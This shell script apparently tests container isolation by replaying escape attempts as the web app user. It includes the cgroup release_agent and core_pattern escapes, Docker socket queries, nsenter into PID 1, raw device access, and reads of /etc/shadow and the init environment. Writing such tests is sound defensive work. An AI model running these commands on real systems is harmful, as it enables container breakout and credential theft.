# Container-escape attempts from inside the victim, as an attacker with code execution tries
# them (here as the web app's user www-data, so they fail, or stay inside the sandbox, like
# `unshare -r`; every attempt is recorded).
exec 2>&1
echo "== whoami"; id
echo "== init environment"; cat /proc/1/environ
echo "== cgroups"; cat /proc/1/cgroup; cat /proc/self/mountinfo
echo "== capabilities"; grep Cap /proc/self/status
echo "== runtime sockets"; ls -l /var/run/docker.sock /run/containerd/containerd.sock /run/podman/podman.sock /var/run/crio/crio.sock
curl -s -m 2 --unix-socket /var/run/docker.sock http://localhost/containers/json
echo "== mount"; mount -t tmpfs none /mnt; mount -o remount,rw /proc/sys
echo "== cgroup release_agent"; mkdir -p /tmp/cgrp && mount -t cgroup -o memory cgroup /tmp/cgrp
echo 1 > /sys/fs/cgroup/memory/notify_on_release; echo /tmp/pwn.sh > /sys/fs/cgroup/memory/release_agent
echo '#!/bin/sh' > /tmp/pwn.sh; echo 'ps aux > /tmp/out' >> /tmp/pwn.sh; chmod +x /tmp/pwn.sh
echo "== core_pattern"; cat /proc/sys/kernel/core_pattern; echo '|/tmp/pwn.sh' > /proc/sys/kernel/core_pattern
echo "== namespaces"; ls -l /proc/self/ns; nsenter -t 1 -m -u -i -n -p -- id; unshare -r -m id
echo "== devices"; ls -l /dev; ls -l /dev/sda /dev/vda /dev/nvme0n1
echo "== secrets"; cat /etc/shadow; ls -la /root
echo "== setuid"; find /usr/bin /usr/sbin /bin -perm -4000 -type f
echo "== kernel"; uname -r; cat /proc/version; cat /proc/sys/kernel/unprivileged_userns_clone
